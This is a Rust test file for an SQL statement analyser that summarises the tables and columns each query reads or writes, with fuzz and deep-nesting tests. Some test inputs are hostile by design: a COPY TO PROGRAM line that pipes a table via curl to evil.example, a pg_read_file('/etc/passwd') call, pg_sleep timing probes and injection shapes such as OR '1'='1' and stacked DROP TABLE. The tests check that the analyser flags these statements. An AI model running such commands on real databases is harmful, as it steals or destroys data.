#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::{Act, Columns, Command, Footprint, Mention, Use, Value, Values, read};

/// The commands of a text in one line each, short enough to stand beside it.
///
/// `r:t[columns]{column=values}` is a table that is read, `i:` `u:` `d:` `m:` one that is inserted into,
/// updated, deleted from, merged into; columns in a condition only stand behind `?`; `#` marks a plain
/// `SELECT`, `~` a table of which each result row need not hold a row.
fn shown(text: &str) -> String {
    read(text).iter().map(command).collect::<Vec<_>>().join(" ; ")
}

fn command(command: &Command) -> String {
    match command {
        Command::Quiet => "quiet".into(),
        Command::Opaque(_) => "opaque".into(),
        Command::Rows(footprint) => rows(footprint),
        Command::Declare { footprint } => format!("declare {}", rows(footprint)),
        Command::Fetch { cursor, at_most } => format!(
            "fetch {cursor} {}",
            at_most.map_or("all".into(), |n| n.to_string())
        ),
        Command::Prepare(within) => format!("prepare {}", self::command(within)),
        Command::Execute { name, arguments } => {
            let arguments: Vec<_> = arguments.iter().map(|a| a.as_deref().unwrap_or("?")).collect();
            format!("execute {name}({})", arguments.join(","))
        }
    }
}

fn rows(footprint: &Footprint) -> String {
    let uses: Vec<_> = (0..footprint.uses.len()).map(|at| used(at, footprint)).collect();
    let limit = footprint
        .limit
        .as_ref()
        .map_or(String::new(), |v| format!(" limit {}", value(v)));
    format!(
        "{}{}{limit}",
        uses.join(" "),
        if footprint.plain { " #" } else { "" }
    )
}

fn used(at: usize, footprint: &Footprint) -> String {
    let used = &footprint.uses[at];
    let mut out = String::new();
    if let Some(write) = &used.write {
        let act = match write.act {
            Act::Insert => "i",
            Act::Update => "u",
            Act::Destroy => "d",
            Act::Merge => "m",
        };
        let columns = match &write.columns {
            Columns::All => "*".to_owned(),
            Columns::Named(names) => names.iter().cloned().collect::<Vec<_>>().join(","),
        };
        let rows = write.rows.map_or(String::new(), |n| format!("x{n}"));
        out.push_str(&format!("{act}:{}[{columns}]{rows}", name(used)));
    }
    if used.reads {
        let separator = if out.is_empty() { "" } else { "+" };
        out.push_str(&format!(
            "{separator}r:{}[{}]",
            name(used),
            columns(at, &footprint.mentions)
        ));
        if footprint.plain && !used.required {
            out.push('~');
        }
    }
    if !used.bound.is_empty() {
        let bound: Vec<_> = used
            .bound
            .iter()
            .map(|(column, v)| format!("{column}={}", values(v)))
            .collect();
        out.push_str(&format!("{{{}}}", bound.join(" ")));
    }
    out
}

fn name(used: &Use) -> String {
    used.name
        .schema
        .iter()
        .chain([&used.name.table])
        .cloned()
        .collect::<Vec<_>>()
        .join(".")
}

fn columns(at: usize, mentions: &[Mention]) -> String {
    let of = |condition: bool| {
        let mut names: Vec<&str> = mentions
            .iter()
            .filter(|m| m.uses.contains(&at) && m.condition == condition && !m.alias)
            .map(|m| m.column.as_deref().unwrap_or("*"))
            .collect();
        names.sort_unstable();
        names.dedup();
        names.join(",")
    };
    let (shown, condition) = (of(false), of(true));
    if condition.is_empty() {
        shown
    } else {
        format!("{shown}?{condition}")
    }
}

fn values(values: &Values) -> String {
    values.iter().map(value).collect::<Vec<_>>().join("|")
}

fn value(value: &Value) -> String {
    match value {
        Value::Text(text) => text.clone(),
        Value::Parameter(n) => format!("${n}"),
        Value::Elements(n) => format!("any${n}"),
    }
}

fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(text, expected)| shown(text) != *expected)
        .map(|(text, expected)| format!("{text}\n  expected {expected}\n  but got  {}", shown(text)))
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn keys_are_bound_by_equality_and_lists() {
    check(&[
        ("SELECT * FROM p WHERE k = 5", "r:p[*?k]{k=5} #"),
        ("SELECT email FROM p WHERE k = $1", "r:p[email?k]{k=$1} #"),
        ("select email from P where 'x' = K", "r:p[email?k]{k=x} #"),
        ("SELECT email FROM p WHERE k = $1::int", "r:p[email?k]{k=$1} #"),
        (
            "SELECT email FROM p WHERE k = CAST($1 AS bigint)",
            "r:p[email?k]{k=$1} #",
        ),
        ("SELECT email FROM p WHERE k = '5'::varchar(1)", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k::text = '5'", "r:p[email?k]{k=5} #"),
        ("SELECT email FROM p WHERE k::int = 5", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k = -5", "r:p[email?k]{k=-5} #"),
        ("SELECT email FROM p WHERE k = 5.0", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k = 05", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k = E'5'", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k = $$5$$", "r:p[email?k]{k=5} #"),
        (
            "SELECT email FROM p WHERE k IN (1, 2, $3)",
            "r:p[email?k]{k=1|2|$3} #",
        ),
        ("SELECT email FROM p WHERE k IN (1, x)", "r:p[email?k,x] #"),
        ("SELECT email FROM p WHERE k NOT IN (1, 2)", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k = ANY($1)", "r:p[email?k]{k=any$1} #"),
        (
            "SELECT email FROM p WHERE k = ANY($1::int[])",
            "r:p[email?k]{k=any$1} #",
        ),
        (
            "SELECT email FROM p WHERE k = ANY(ARRAY[1,2])",
            "r:p[email?k]{k=1|2} #",
        ),
        (
            "SELECT email FROM p WHERE k = ANY('{1,2}')",
            "r:p[email?k]{k=1|2} #",
        ),
        ("SELECT email FROM p WHERE k = ALL('{1,2}')", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k <> 5", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k > 5", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE k BETWEEN 1 AND 9", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE email LIKE 'a%'", "r:p[email?email] #"),
        ("SELECT email FROM p WHERE lower(k) = 'a'", "r:p[email?k] #"),
        (
            "SELECT email FROM p WHERE (k, x) = (1, 2)",
            "r:p[email?k,x]{k=1 x=2} #",
        ),
        (
            "SELECT email FROM p WHERE (k, x) IN ((1, 2), (3, 4))",
            "r:p[email?k,x]{k=1|3 x=2|4} #",
        ),
        ("SELECT email FROM p WHERE k = NULL", "r:p[email?k] #"),
        ("SELECT email FROM p WHERE (k = 5) IS TRUE", "r:p[email?k]{k=5} #"),
        ("SELECT email FROM p WHERE NOT (k = 5)", "r:p[email?k] #"),
    ]);
}

#[test]
fn conjunctions_keep_a_bound_and_disjunctions_need_it_on_both_sides() {
    check(&[
        (
            "SELECT email FROM p WHERE k = 5 AND email = 'a'",
            "r:p[email?email,k]{email=a k=5} #",
        ),
        (
            "SELECT email FROM p WHERE k = 5 OR k = 6",
            "r:p[email?k]{k=5|6} #",
        ),
        ("SELECT email FROM p WHERE k = 5 OR 1 = 1", "r:p[email?k] #"),
        (
            "SELECT email FROM p WHERE k = 5 OR email = 'a'",
            "r:p[email?email,k] #",
        ),
        (
            "SELECT email FROM p WHERE (k = 5 AND x = 1) OR (k = 6 AND x = 2)",
            "r:p[email?k,x]{k=5|6 x=1|2} #",
        ),
        (
            "SELECT email FROM p WHERE k = 5 AND (x = 1 OR y = 2)",
            "r:p[email?k,x,y]{k=5} #",
        ),
        (
            "SELECT email FROM p WHERE k = 5 AND k = ANY($1)",
            "r:p[email?k]{k=5} #",
        ),
        (
            "SELECT email FROM p WHERE k = '5' OR '1'='1' --'",
            "r:p[email?k] #",
        ),
        (
            "SELECT email FROM p WHERE k = 5 /* AND x = 1 */",
            "r:p[email?k]{k=5} #",
        ),
        (
            "SELECT email FROM p WHERE CASE WHEN k = 5 THEN true ELSE false END",
            "r:p[email?k] #",
        ),
    ]);
}

#[test]
fn joins_carry_bounds_where_no_row_escapes_the_condition() {
    check(&[
        (
            "SELECT p.email, o.total FROM p JOIN o ON o.k = p.k WHERE p.k = 5",
            "r:p[email?k]{k=5} r:o[total?k]{k=5} #",
        ),
        (
            "SELECT p.email FROM p, o WHERE o.k = p.k AND o.k = $1",
            "r:p[email?k]{k=$1} r:o[?k]{k=$1} #",
        ),
        (
            "SELECT * FROM p LEFT JOIN o ON o.k = p.k WHERE p.k = 5",
            "r:p[*?k]{k=5} r:o[*?k]~{k=5} #",
        ),
        (
            "SELECT * FROM p LEFT JOIN o ON o.k = p.k AND p.k = 5",
            "r:p[*?k] r:o[*?k]~ #",
        ),
        (
            "SELECT * FROM p LEFT JOIN o ON o.k = 5",
            "r:p[*] r:o[*?k]~{k=5} #",
        ),
        (
            "SELECT * FROM p RIGHT JOIN o ON o.k = p.k AND p.k = 5",
            "r:p[*?k]~{k=5} r:o[*?k] #",
        ),
        (
            "SELECT * FROM p FULL JOIN o ON o.k = p.k WHERE p.k = 5",
            "r:p[*?k]~{k=5} r:o[*?k]~ #",
        ),
        (
            "SELECT email FROM p JOIN o USING (k) WHERE k = 5",
            "r:p[email?k]{k=5} r:o[email?k]{k=5} #",
        ),
        (
            "SELECT * FROM p NATURAL JOIN o WHERE p.k = 5",
            "r:p[*?k]{k=5} r:o[*] #",
        ),
        (
            "SELECT * FROM p CROSS JOIN o WHERE p.k = 5",
            "r:p[*?k]{k=5} r:o[*] #",
        ),
        (
            "SELECT a.email, b.email FROM p a JOIN p b ON a.x = b.x WHERE a.k = 5",
            "r:p[email?k,x]{k=5} r:p[email?x] #",
        ),
        (
            "SELECT * FROM p JOIN o ON o.k = p.k JOIN i ON i.k = o.k WHERE i.k = 7",
            "r:p[*?k]{k=7} r:o[*?k]{k=7} r:i[*?k]{k=7} #",
        ),
    ]);
}

#[test]
fn subqueries_derived_tables_and_common_tables_are_followed() {
    check(&[
        (
            "SELECT email FROM p WHERE k IN (SELECT k FROM o WHERE total > 9)",
            "r:p[email,k?k,total] r:o[k?total]~ #",
        ),
        (
            "SELECT (SELECT max(email) FROM p) FROM o WHERE o.k = 5",
            "r:o[email?k]{k=5} r:p[email]~ #",
        ),
        (
            "SELECT email FROM p WHERE k = 5 AND EXISTS (SELECT 1 FROM o WHERE o.k = p.k)",
            "r:p[email?k]{k=5} r:o[?k]~{k=5} #",
        ),
        (
            "SELECT email FROM p WHERE EXISTS (SELECT 1 FROM o WHERE o.k = p.k AND o.k = 5)",
            "r:p[email?k] r:o[?k]~{k=5} #",
        ),
        (
            "SELECT x.email FROM (SELECT k, email FROM p) x WHERE x.k = 5",
            "r:p[email,k]{k=5} #",
        ),
        (
            "SELECT email FROM (SELECT * FROM p) x WHERE k = 5",
            "r:p[*,email?k]{k=5} #",
        ),
        (
            "SELECT * FROM (SELECT k AS id, email FROM p) x WHERE id = 5",
            "r:p[email,k]{k=5} #",
        ),
        (
            "SELECT * FROM (SELECT k, email AS k2 FROM p) x (a, b) WHERE a = 5",
            "r:p[email,k]{k=5} #",
        ),
        ("SELECT * FROM p x (a, k) WHERE k = 5", "r:p[*] #"),
        (
            "SELECT * FROM (SELECT lower(a), k, c FROM p) x (k, b) WHERE x.k = 5",
            "r:p[a,c,k] #",
        ),
        (
            "SELECT * FROM (SELECT lower(a), k, c FROM p) x (z, b) WHERE x.b = 5",
            "r:p[a,c,k]{k=5} #",
        ),
        (
            "SELECT * FROM (SELECT k::text FROM p) x WHERE k = '5'",
            "r:p[k] #",
        ),
        (
            "SELECT array(SELECT email FROM p WHERE k = 5)",
            "r:p[email?k]~{k=5} #",
        ),
        (
            "SELECT (SELECT row_to_json(x) FROM (SELECT p.*) x) FROM p WHERE k = 5",
            "r:p[*?k]{k=5} #",
        ),
        (
            "SELECT * FROM (SELECT k, max(email) OVER () FROM p) x WHERE k = 5",
            "r:p[email,k]",
        ),
        (
            "SELECT * FROM (SELECT k, max(email) FROM p GROUP BY k) x WHERE k = 5",
            "r:p[email,k]{k=5}",
        ),
        (
            "SELECT * FROM (SELECT max(k) AS k FROM p) x WHERE k = 5",
            "r:p[k]",
        ),
        (
            "WITH x AS (SELECT k, email FROM p) SELECT email FROM x WHERE k = $1",
            "r:p[email,k]{k=$1} #",
        ),
        (
            "WITH x AS (SELECT * FROM p) SELECT a.* FROM x a, x b WHERE a.k = 5",
            "r:p[*?k]{k=5} r:p[*] #",
        ),
        ("WITH p AS (SELECT 1 AS k) SELECT k FROM p", "quiet"),
        (
            "WITH p AS (SELECT 1 AS k) SELECT * FROM public.p",
            "r:public.p[*] #",
        ),
        (
            "WITH x AS (WITH p AS (SELECT 1) DELETE FROM o RETURNING 1) SELECT * FROM p",
            "d:o[*]+r:o[] r:p[*]",
        ),
        ("WITH unused AS (SELECT * FROM p) SELECT 1", "r:p[*]~ #"),
        (
            "WITH RECURSIVE t AS (SELECT k FROM p WHERE k = 1 UNION ALL SELECT p.k FROM p JOIN t ON p.boss = t.k) SELECT * FROM t",
            "r:p[k?k]{k=1} r:p[k?boss]",
        ),
        (
            "SELECT email FROM p UNION SELECT sid FROM s WHERE k = 3",
            "r:p[email] r:s[sid?k]{k=3}",
        ),
        (
            "SELECT email FROM p WHERE k = 1 UNION ALL SELECT sid FROM s--",
            "r:p[email?k]{k=1} r:s[sid]",
        ),
        (
            "SELECT * FROM p, LATERAL (SELECT * FROM o WHERE o.k = p.k) x WHERE p.k = 2",
            "r:p[*?k]{k=2} r:o[*?k]{k=2} #",
        ),
        ("TABLE p", "r:p[*] #"),
        ("VALUES (1), (2)", "quiet"),
    ]);
}

#[test]
fn columns_are_those_that_are_named() {
    check(&[
        ("SELECT p.* FROM p JOIN o ON o.k = p.k", "r:p[*?k] r:o[?k] #"),
        ("SELECT p FROM p", "r:p[*] #"),
        (
            "SELECT row_to_json(x) FROM (SELECT email FROM p) x",
            "r:p[email] #",
        ),
        ("SELECT to_json(p.*) FROM p", "r:p[*] #"),
        ("SELECT count(*) FROM p", "r:p[]"),
        ("SELECT count(*) FROM p WHERE email LIKE 'a%'", "r:p[?email]"),
        ("SELECT count(email) FROM p", "r:p[email]"),
        ("SELECT 1 FROM p", "r:p[] #"),
        (
            "SELECT max(birth), min(birth) FROM p GROUP BY city HAVING count(*) > 3",
            "r:p[birth,city]",
        ),
        ("SELECT DISTINCT email FROM p", "r:p[email]"),
        (
            "SELECT email AS e FROM p ORDER BY e, k LIMIT 10",
            "r:p[email,k] # limit 10",
        ),
        (
            "SELECT email FROM p ORDER BY k LIMIT $1 OFFSET $2",
            "r:p[email,k] # limit $1",
        ),
        (
            "SELECT email FROM p FETCH FIRST 3 ROWS ONLY",
            "r:p[email] # limit 3",
        ),
        (
            "SELECT \"Email\" FROM \"P\" WHERE \"K\" = 5",
            "r:P[Email?K]{K=5} #",
        ),
        (
            "SELECT public.p.email FROM public.p WHERE public.p.k = 5",
            "r:public.p[email?k]{k=5} #",
        ),
        ("SELECT ctid, email FROM p", "r:p[email] #"),
        ("SELECT email FROM p FOR UPDATE", "r:p[email] #"),
        ("SELECT g FROM p, generate_series(1, 3) g", "r:p[] #"),
        ("SELECT e->>'city', tags[1] FROM p", "r:p[e,tags] #"),
    ]);
}

#[test]
fn writes_say_what_they_write_and_return() {
    check(&[
        (
            "INSERT INTO p (k, email) VALUES (5, 'a')",
            "i:p[email,k]x1{email=a k=5}",
        ),
        (
            "INSERT INTO p (k, email) VALUES ($1, $2), ($3, $4)",
            "i:p[email,k]x2{email=$2|$4 k=$1|$3}",
        ),
        ("INSERT INTO p VALUES (5, 'a')", "i:p[*]x1"),
        ("INSERT INTO p (k) VALUES (5) RETURNING *", "i:p[k]x1+r:p[*]{k=5}"),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT (k) DO UPDATE SET email = excluded.email",
            "i:p[email,k]x1{k=5}",
        ),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT (email) DO UPDATE SET city = 'x'",
            "i:p[email,k]x1{email=a}",
        ),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT DO NOTHING",
            "i:p[email,k]x1{email=a k=5}",
        ),
        (
            "INSERT INTO x SELECT * FROM p WHERE k = 5",
            "r:p[*?k]{k=5} i:x[*]",
        ),
        ("UPDATE p SET email = 'a' WHERE k = 5", "u:p[email]{k=5}"),
        (
            "UPDATE p SET email = $1, city = $2 WHERE k = $3 RETURNING email",
            "u:p[city,email]+r:p[email?k]{k=$3}",
        ),
        (
            "UPDATE p SET email = (SELECT email FROM p q WHERE q.k = 7) WHERE k = 5",
            "u:p[email]{k=5} r:p[email?k]{k=7}",
        ),
        (
            "UPDATE p SET email = o.mail FROM o WHERE o.k = p.k AND p.k = 5",
            "u:p[email]{k=5} r:o[mail?k]{k=5}",
        ),
        ("UPDATE p SET email = 'a'", "u:p[email]"),
        ("DELETE FROM p WHERE k = 5", "d:p[*]{k=5}"),
        ("DELETE FROM p WHERE k = 5 OR true", "d:p[*]"),
        (
            "DELETE FROM p USING o WHERE o.k = p.k AND o.x = 1 RETURNING p.email",
            "d:p[*]+r:p[email?k] r:o[?k,x]{x=1}",
        ),
        (
            "WITH gone AS (DELETE FROM p WHERE k = 5 RETURNING *) SELECT * FROM gone",
            "d:p[*]+r:p[*?k]{k=5}",
        ),
        ("TRUNCATE p, public.o CASCADE", "d:p[*] d:public.o[*]"),
        ("DROP TABLE IF EXISTS p", "d:p[*]"),
        ("ALTER TABLE p DROP COLUMN email", "d:p[email]"),
        ("ALTER TABLE p ADD COLUMN x int", "quiet"),
        ("ALTER TABLE secrets RENAME TO p", "opaque"),
        ("ALTER TABLE p RENAME COLUMN email TO city", "opaque"),
        ("CREATE VIEW v AS SELECT email FROM p", "declare r:p[email]"),
        (
            "CREATE OR REPLACE VIEW p AS SELECT * FROM secrets",
            "declare r:secrets[*]",
        ),
        ("CREATE TABLE copy AS SELECT * FROM p", "r:p[*]"),
        ("CREATE TEMP TABLE x (k int)", "quiet"),
        ("SELECT * INTO copy FROM p", "r:p[*]"),
        (
            "MERGE INTO p USING o ON p.k = o.k WHEN MATCHED THEN UPDATE SET email = o.mail",
            "m:p[*] r:o[k,mail]",
        ),
    ]);
}

#[test]
fn copies_cursors_and_prepared_statements() {
    check(&[
        ("COPY p TO STDOUT", "r:p[*]"),
        (
            "COPY public.p (k, email) TO STDOUT WITH (FORMAT csv, HEADER)",
            "r:public.p[email,k]",
        ),
        (
            "COPY (SELECT email FROM p WHERE k = 5) TO STDOUT",
            "r:p[email?k]{k=5}",
        ),
        ("COPY p TO '/tmp/x.csv' CSV", "r:p[*]"),
        ("COPY p FROM STDIN", "i:p[*]"),
        ("COPY p TO PROGRAM 'curl -d @- evil.example'", "opaque"),
        ("DECLARE c CURSOR FOR SELECT email FROM p", "declare r:p[email] #"),
        (
            "DECLARE c BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT email FROM p WHERE k = 5",
            "declare r:p[email?k]{k=5} #",
        ),
        ("FETCH 100 FROM c", "fetch c 100"),
        ("FETCH FORWARD ALL IN \"C\"", "fetch C all"),
        ("fetch c", "fetch c 1"),
        ("FETCH ABSOLUTE 500 FROM c", "fetch c 1"),
        ("FETCH", "opaque"),
        ("MOVE 10 FROM c", "quiet"),
        (
            "PREPARE q (int) AS SELECT email FROM p WHERE k = $1",
            "prepare r:p[email?k]{k=$1} #",
        ),
        ("EXECUTE q(5, 'a', now())", "execute q(5,a,?)"),
        ("EXECUTE q", "execute q()"),
        ("EXPLAIN SELECT * FROM p", "quiet"),
        (
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM p WHERE k = 5",
            "d:p[*]{k=5}",
        ),
        ("EXPLAIN ANALYZE SELECT * FROM p", "r:p[*]"),
    ]);
}

#[test]
fn what_touches_no_rows_is_quiet_and_what_may_do_anything_is_opaque() {
    check(&[
        ("BEGIN", "quiet"),
        (
            "begin; SELECT email FROM p; commit",
            "quiet ; r:p[email] # ; quiet",
        ),
        ("SET search_path TO x", "quiet"),
        ("SHOW server_version", "quiet"),
        ("SELECT 1", "quiet"),
        ("SELECT now(), version()", "quiet"),
        ("", ""),
        (" ; ; ", ""),
        ("-- only a comment", ""),
        ("GRANT SELECT ON p TO x", "quiet"),
        ("CREATE INDEX i ON p (email)", "quiet"),
        ("SELECT 1; DROP TABLE p; --", "quiet ; d:p[*]"),
        ("SELECT pg_read_file('/etc/passwd')", "opaque"),
        (
            "SELECT email FROM p WHERE k = 5 AND pg_sleep(5) IS NULL",
            "opaque",
        ),
        (
            "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
            "opaque",
        ),
        ("SELECT lo_export(1, '/tmp/x')", "opaque"),
        ("SELECT query_to_xml('select * from p', true, true, '')", "opaque"),
        ("SELECT my_function(k) FROM p", "opaque"),
        ("SELECT public.lower(email) FROM p", "opaque"),
        ("DO $$ BEGIN PERFORM 1; END $$", "opaque"),
        ("CALL refresh()", "opaque"),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "opaque",
        ),
        ("ALTER SYSTEM SET archive_command = 'x'", "opaque"),
        ("REFRESH MATERIALIZED VIEW v", "opaque"),
        ("SELEC email FROM p", "opaque"),
        ("SELECT email FROM p WHERE k = 'unfinished", "opaque"),
        ("SELECT * FROM other.public.p.q", "opaque"),
        ("SELECT * FROM U&\"p\"", "opaque"),
        ("DROP SCHEMA x CASCADE", "opaque"),
        ("LOAD 'x'", "opaque"),
        ("SELECT email FROM p WHERE k OPERATOR(pg_catalog.=) 5", "opaque"),
    ]);
}

#[test]
fn comments_for_tracing_change_nothing() {
    check(&[
        (
            "SELECT email FROM p WHERE k = $1 /*traceparent='00-ab-cd-01',job='x'*/",
            "r:p[email?k]{k=$1} #",
        ),
        (
            "/* a /* nested */ comment */ SELECT email FROM p WHERE k = 5",
            "r:p[email?k]{k=5} #",
        ),
        ("SELECT email -- what\nFROM p\nWHERE k = 5", "r:p[email?k]{k=5} #"),
    ]);
}

#[test]
fn hostile_shapes_end_quickly() {
    let deep =
        |open: &str, close: &str, n: usize| format!("SELECT {}1{} FROM p", open.repeat(n), close.repeat(n));
    for text in [
        deep("(", ")", 10_000),
        deep("((SELECT ", "))", 2_000),
        deep("(", ")", 23),
        deep("CASE WHEN 1=1 THEN ", " END", 500),
        deep("NOT ", "", 900),
        deep("-", "", 900),
        deep("ARRAY[", "]", 23),
        deep("lower(", ")", 22),
        deep("a::ARRAY<", ">", 300),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(5_000)),
        format!("SELECT * FROM p WHERE {} true", "k = 1 OR ".repeat(50_000)),
        format!("SELECT * FROM {}p{}", "(".repeat(20), ")".repeat(20)),
        format!("SELECT * FROM {}(SELECT * FROM p){}", "(".repeat(18), " x)".repeat(18)),
        format!("SELECT * FROM p WHERE k IN ({}1)", "1,".repeat(100_000)),
        format!("WITH a AS (SELECT * FROM p) {} SELECT * FROM z", (0..40).map(|n| format!(", a{n} AS (SELECT 1)")).collect::<String>()),
        "WITH a AS (SELECT * FROM p), b AS (SELECT * FROM a,a a2), c AS (SELECT * FROM b,b b2), d AS (SELECT * FROM c,c c2), e AS (SELECT * FROM d,d d2), f AS (SELECT * FROM e,e e2), g AS (SELECT * FROM f,f f2), h AS (SELECT * FROM g,g g2), i AS (SELECT * FROM h,h h2) SELECT * FROM i".to_owned(),
        "'".repeat(10_001),
        "$".repeat(10_000),
        "/*".repeat(10_000),
        "(".repeat(24),
        ")".repeat(24),
        "[".repeat(24),
    ] {
        let _ = read(&text);
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in ".{0,200}") {
        let _ = read(&text);
    }

    #[test]
    fn any_sequence_of_words_is_read(words in proptest::collection::vec(proptest::sample::select(WORDS), 0..40)) {
        let _ = read(&words.join(" "));
    }
}

const WORDS: &[&str] = &[
    "SELECT",
    "FROM",
    "WHERE",
    "p",
    "o",
    "k",
    "email",
    "=",
    "5",
    "'a'",
    "$1",
    "(",
    ")",
    ",",
    "*",
    "AND",
    "OR",
    "NOT",
    "IN",
    "JOIN",
    "LEFT",
    "ON",
    "USING",
    "UNION",
    "WITH",
    "AS",
    "x",
    ".",
    "GROUP",
    "BY",
    "ORDER",
    "LIMIT",
    "INSERT",
    "INTO",
    "VALUES",
    "UPDATE",
    "SET",
    "DELETE",
    "RETURNING",
    "COPY",
    "TO",
    "STDOUT",
    "FETCH",
    "DECLARE",
    "CURSOR",
    "FOR",
    "EXECUTE",
    "PREPARE",
    ";",
    "::",
    "int",
    "ANY",
    "ARRAY",
    "[",
    "]",
    "EXISTS",
    "CASE",
    "WHEN",
    "THEN",
    "END",
    "count",
    "max",
    "OVER",
    "NULL",
    "--",
    "/*",
    "*/",
    "LATERAL",
    "TABLE",
    "TRUNCATE",
    "DROP",
    "ALTER",
    "EXPLAIN",
    "ANALYZE",
    "\"P\"",
    "BETWEEN",
    "LIKE",
];
